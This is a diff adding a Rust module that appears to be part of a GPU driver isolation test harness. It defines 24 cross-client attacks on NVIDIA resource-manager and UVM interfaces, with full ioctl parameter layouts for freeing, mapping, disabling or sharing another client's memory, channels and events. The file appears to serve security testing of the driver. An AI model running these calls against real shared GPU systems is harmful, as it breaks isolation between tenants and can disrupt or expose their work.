@@ -1,0 +1,442 @@
+// SPDX-License-Identifier: GPL-2.0
+//! Handles of another client, in every call that has room for one (nvidia-protocol 6.2).
+
+use super::scene::{escape, victims, Attacker, MIB, OWN};
+use super::{attack, told, Attack, Driver, Sign, Told};
+use crate::bytes::{put_u32, put_u64, u32_at};
+use crate::guest::rm;
+use crate::layout;
+use crate::sys;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack(
+        "a GSS legacy control on another's subdevice",
+        "rmapi_gss_legacy_control.c:RmGssLegacyRpcCmd",
+        Driver::Passes,
+        Sign::Victim,
+        gss,
+    ),
+    attack(
+        "a GSS legacy control for administrators",
+        "rmapi_gss_legacy_control.c:RmGssLegacyRpcCmd",
+        Driver::Refuses,
+        Sign::Victim,
+        gss_admin,
+    ),
+    attack(
+        "another's channels stopped (FIFO_DISABLE_CHANNELS)",
+        "kernel_fifo_ctrl.c:subdeviceCtrlCmdFifoDisableChannels_IMPL",
+        Driver::Passes,
+        Sign::Victim,
+        disable_channels,
+    ),
+    attack(
+        "another's channels idled (IDLE_CHANNELS)",
+        "kernel_idle_channels.c:RmIdleChannels",
+        Driver::Refuses,
+        Sign::Victim,
+        idle_control,
+    ),
+    attack(
+        "another's address space shared by a device (hClientShare)",
+        "device_share.c:deviceInitClientShare",
+        Driver::Passes,
+        Sign::Told,
+        client_share,
+    ),
+    attack(
+        "a device for another client (hTargetClient)",
+        "device.c:deviceConstruct_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        target_client,
+    ),
+    attack(
+        "another's memory as a dma-buf (EXPORT_TO_DMABUF_FD)",
+        "osapi.c:RmDmabufVerifyMemHandle",
+        Driver::NotModelled,
+        Sign::Told,
+        dmabuf,
+    ),
+    attack(
+        "the key of another's event taken (ALLOC_OS_EVENT)",
+        "osapi.c:allocate_os_event",
+        Driver::Passes,
+        Sign::Victim,
+        take_event_key,
+    ),
+    attack(
+        "the key of another's event freed (FREE_OS_EVENT)",
+        "osapi.c:free_os_event",
+        Driver::Passes,
+        Sign::Victim,
+        free_event_key,
+    ),
+    attack(
+        "an event on another's object (NV0005 hParentClient)",
+        "event.c:eventConstruct_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        event_parent,
+    ),
+    attack(
+        "a debugger on another's compute object (hAppClient)",
+        "kernel_sm_debugger_session.c:ksmdbgssnConstruct_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        debugger,
+    ),
+    attack(
+        "a copy of memory that another shares with all",
+        "rs_client.c:clientCopyResource_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        dup_shared,
+    ),
+    attack(
+        "a copy of memory that another does not share",
+        "rs_client.c:clientCopyResource_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        dup_private,
+    ),
+    attack(
+        "another's object shared with all (RM_SHARE)",
+        "sharing.c:rmapiShareWithSecInfo",
+        Driver::Refuses,
+        Sign::Told,
+        share_theirs,
+    ),
+    attack(
+        "an entry in another's client by sharing with it (RM_SHARE)",
+        "rs_server.c:_serverShareResourceAccessClient",
+        Driver::Passes,
+        Sign::Told,
+        share_with,
+    ),
+    attack(
+        "an entry in another's client by an inherited policy (0xd04)",
+        "client_resource.c:cliresCtrlCmdClientSetInheritedSharePolicy_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        inherit,
+    ),
+    attack(
+        "another's mapping moved (UPDATE_DEVICE_MAPPING_INFO)",
+        "osapi.c:rm_update_device_mapping_info",
+        Driver::Passes,
+        Sign::Victim,
+        move_mapping,
+    ),
+    attack(
+        "another's memory mapped (RM_MAP_MEMORY)",
+        "client.c:rmclientValidate_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        map,
+    ),
+    attack(
+        "another's memory freed (RM_FREE)",
+        "client.c:rmclientValidate_IMPL",
+        Driver::Refuses,
+        Sign::Victim,
+        free,
+    ),
+    attack(
+        "memory made in another's client (RM_ALLOC)",
+        "client.c:rmclientValidate_IMPL",
+        Driver::Refuses,
+        Sign::Victim,
+        alloc,
+    ),
+    attack(
+        "a control on another's client (RM_CONTROL)",
+        "client.c:rmclientValidate_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        control,
+    ),
+    attack(
+        "another's address space registered with UVM",
+        "client_resource.c:cliresShareCallback_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        uvm_vaspace,
+    ),
+    attack(
+        "another's channel registered with UVM",
+        "client_resource.c:cliresShareCallback_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        uvm_channel,
+    ),
+    attack(
+        "another's memory mapped through UVM",
+        "client_resource.c:cliresShareCallback_IMPL",
+        Driver::Refuses,
+        Sign::Told,
+        uvm_map,
+    ),
+];
+
+fn gss(a: &Attacker) -> Told {
+    gss_with(a, 0x2080_8159)
+}
+
+fn gss_admin(a: &Attacker) -> Told {
+    gss_with(a, 0x2080_c159)
+}
+
+fn gss_with(a: &Attacker, cmd: u32) -> Told {
+    let (ctl, client) = (a.client.ctl, a.victim.client);
+    told(rm::control(
+        ctl,
+        client,
+        rm::SUBDEVICE_HANDLE,
+        cmd,
+        &mut [0; 332],
+    ))
+}
+
+/// NV2080_CTRL_FIFO_DISABLE_CHANNELS_PARAMS for the victim's channel.
+pub(super) fn disable(client: u32, off: bool) -> [u8; 536] {
+    let mut params = [0; 536];
+    params[0] = u8::from(off);
+    put_u32(&mut params, 4, 1);
+    put_u32(&mut params, 24, client);
+    put_u32(&mut params, 280, victims::CHANNEL);
+    params
+}
+
+fn disable_channels(a: &Attacker) -> Told {
+    let mut params = disable(a.victim.client, true);
+    a.control(rm::SUBDEVICE_HANDLE, 0x2080_110b, &mut params)
+}
+
+fn idle_control(a: &Attacker) -> Told {
+    let (clients, channels) = ([a.victim.client], [victims::CHANNEL]);
+    let mut params = [0; 48];
+    put_u32(&mut params, 8, 1);
+    put_u64(&mut params, 16, clients.as_ptr() as u64);
+    put_u64(&mut params, 24, [rm::DEVICE_HANDLE].as_ptr() as u64);
+    put_u64(&mut params, 32, channels.as_ptr() as u64);
+    a.control(a.client.handle, 0x283, &mut params)
+}
+
+/// A second device object whose parameters name the victim's client at `at`.
+fn device(a: &Attacker, at: usize) -> Told {
+    let mut params = [0; 56];
+    put_u32(&mut params, 0, a.victim.gpus.instance);
+    put_u32(&mut params, at, a.victim.client);
+    a.alloc(a.client.handle, OWN, rm::DEVICE, &mut params)
+}
+
+fn client_share(a: &Attacker) -> Told {
+    device(a, 4)
+}
+
+fn target_client(a: &Attacker) -> Told {
+    device(a, 8)
+}
+
+fn dmabuf(a: &Attacker) -> Told {
+    let mut outer = [0; 2608];
+    put_u32(&mut outer, 0, u32::MAX);
+    put_u32(&mut outer, 4, a.victim.client);
+    put_u32(&mut outer, 8, 1);
+    put_u32(&mut outer, 12, 1);
+    put_u64(&mut outer, 24, MIB);
+    put_u32(&mut outer, 36, victims::MEMORY);
+    put_u64(&mut outer, 1576, MIB);
+    told(escape(a.client.gpu, 217, &mut outer, 2600))
+}
+
+/// NV_ESC_ALLOC_OS_EVENT or NV_ESC_FREE_OS_EVENT.
+fn event_key(a: &Attacker, nr: u32, client: u32, fd: u32) -> Told {
+    let mut outer = [0; 16];
+    put_u32(&mut outer, 0, client);
+    put_u32(&mut outer, 8, fd);
+    a.escape(nr, &mut outer, 12)
+}
+
+fn take_event_key(a: &Attacker) -> Told {
+    event_key(a, 206, a.victim.client, 4242)
+}
+
+fn free_event_key(a: &Attacker) -> Told {
+    event_key(a, 207, a.victim.client, victims::EVENT)
+}
+
+fn event_parent(a: &Attacker) -> Told {
+    event_key(a, 206, a.client.handle, 5)?;
+    let mut params = [0; 24];
+    put_u32(&mut params, 0, a.victim.client);
+    put_u32(&mut params, 4, rm::SUBDEVICE_HANDLE);
+    put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
+    put_u64(&mut params, 16, 5);
+    a.alloc(
+        rm::SUBDEVICE_HANDLE,
+        OWN,
+        layout::CLASS_OS_EVENT,
+        &mut params,
+    )
+}
+
+fn debugger(a: &Attacker) -> Told {
+    let mut params = [0; 12];
+    put_u32(&mut params, 4, a.victim.client);
+    put_u32(&mut params, 8, victims::COMPUTE);
+    a.alloc(rm::DEVICE_HANDLE, OWN, 0x83de, &mut params)
+}
+
+fn dup(a: &Attacker, memory: u32) -> Told {
+    let source = (a.victim.client, memory);
+    told(rm::dup(
+        a.client.ctl,
+        a.client.handle,
+        rm::DEVICE_HANDLE,
+        OWN,
+        source,
+    ))
+}
+
+fn dup_shared(a: &Attacker) -> Told {
+    dup(a, victims::SHARED)
+}
+
+fn dup_private(a: &Attacker) -> Told {
+    dup(a, victims::MEMORY)
+}
+
+/// RM_SHARE of an object, with all or one client.
+fn share(a: &Attacker, client: u32, object: u32, kind: u8, target: u32) -> Told {
+    let mut outer = [0; 24];
+    for (at, value) in [(0, client), (4, object), (8, target), (12, 1)] {
+        put_u32(&mut outer, at, value);
+    }
+    outer[16] = kind;
+    a.escape(0x35, &mut outer, 20)
+}
+
+fn share_theirs(a: &Attacker) -> Told {
+    share(a, a.victim.client, victims::MEMORY, 1, 0)
+}
+
+fn share_with(a: &Attacker) -> Told {
+    told(a.client.memory(OWN, 2 * MIB))?;
+    share(a, a.client.handle, OWN, 3, a.victim.client)
+}
+
+fn inherit(a: &Attacker) -> Told {
+    let mut params = [0; 12];
+    put_u32(&mut params, 0, a.victim.client);
+    put_u32(&mut params, 4, 1);
+    params[8] = 3;
+    a.control(a.client.handle, 0xd04, &mut params)
+}
+
+fn move_mapping(a: &Attacker) -> Told {
+    let mut outer = [0; 40];
+    put_u32(&mut outer, 0, a.victim.client);
+    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
+    put_u32(&mut outer, 8, victims::MEMORY);
+    put_u64(&mut outer, 16, a.victim.mapped);
+    put_u64(&mut outer, 24, 0x1234_5000);
+    a.escape(0x5e, &mut outer, 32)
+}
+
+fn map(a: &Attacker) -> Told {
+    let names = (a.victim.client, rm::DEVICE_HANDLE, victims::MEMORY);
+    told(rm::map(a.client.ctl, names, MIB, 0, a.client.gpu))
+}
+
+fn free(a: &Attacker) -> Told {
+    told(rm::free(a.client.ctl, a.victim.client, victims::MEMORY))
+}
+
+fn alloc(a: &Attacker) -> Told {
+    let (ctl, client) = (a.client.ctl, a.victim.client);
+    let mut params = rm::memory_params(client, 2 * MIB);
+    told(rm::alloc(
+        ctl,
+        client,
+        rm::DEVICE_HANDLE,
+        OWN,
+        rm::VIDEO_MEMORY,
+        &mut params,
+    ))
+}
+
+fn control(a: &Attacker) -> Told {
+    let (ctl, client) = (a.client.ctl, a.victim.client);
+    told(rm::control(
+        ctl,
+        client,
+        rm::SUBDEVICE_HANDLE,
+        layout::FB_GET_INFO_V2,
+        &mut [0; 1028],
+    ))
+}
+
+/// A UVM file with the GPU in it.
+fn uvm(a: &Attacker) -> Result<i32, String> {
+    let path = format!("{}/nvidia-uvm", a.folder);
+    let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC).map_err(|e| format!("errno {e}"))?;
+    request(fd, layout::UVM_INITIALIZE, &mut [0; 16], 8)?;
+    let mut gpu = [0; 40];
+    gpu[..16].copy_from_slice(&a.victim.gpus.uuid);
+    request(fd, 37, &mut gpu, 36)?;
+    Ok(fd)
+}
+
+/// A UVM request; the status is at `at`.
+fn request(fd: i32, cmd: u32, params: &mut [u8], at: usize) -> Told {
+    sys::ioctl(fd, cmd, params).map_err(|e| format!("errno {e}"))?;
+    match u32_at(params, at) {
+        0 => Ok(()),
+        status => Err(format!("status {status:#x}")),
+    }
+}
+
+fn uvm_vaspace(a: &Attacker) -> Told {
+    let fd = uvm(a)?;
+    let mut params = [0; 32];
+    params[..16].copy_from_slice(&a.victim.gpus.uuid);
+    put_u32(&mut params, 20, a.victim.client);
+    put_u32(&mut params, 24, victims::VASPACE);
+    request(fd, 25, &mut params, 28)
+}
+
+fn uvm_channel(a: &Attacker) -> Told {
+    let fd = uvm(a)?;
+    let mut params = [0; 56];
+    params[..16].copy_from_slice(&a.victim.gpus.uuid);
+    put_u32(&mut params, 20, a.victim.client);
+    put_u32(&mut params, 24, victims::CHANNEL);
+    put_u64(&mut params, 32, 0x20_0000_0000);
+    put_u64(&mut params, 40, 2 * MIB);
+    request(fd, 27, &mut params, 48)
+}
+
+fn uvm_map(a: &Attacker) -> Told {
+    let fd = uvm(a)?;
+    told(a.client.alloc(rm::DEVICE_HANDLE, OWN, 0x90f1, &mut [0; 56]))?;
+    let mut space = [0; 32];
+    space[..16].copy_from_slice(&a.victim.gpus.uuid);
+    put_u32(&mut space, 20, a.client.handle);
+    put_u32(&mut space, 24, OWN);
+    request(fd, 25, &mut space, 28)?;
+    let (base, length) = (0x20_0000_0000, 2 * MIB);
+    let mut range = [0; 24];
+    put_u64(&mut range, 0, base);
+    put_u64(&mut range, 8, length);
+    request(fd, 73, &mut range, 16)?;
+    let mut params = [0; 9264];
+    put_u64(&mut params, 0, base);
+    put_u64(&mut params, 8, length);
+    params[24..40].copy_from_slice(&a.victim.gpus.uuid);
+    put_u64(&mut params, 9240, 1);
+    put_u32(&mut params, 9252, a.victim.client);
+    put_u32(&mut params, 9256, victims::MEMORY);
+    request(fd, 33, &mut params, 9260)
+}
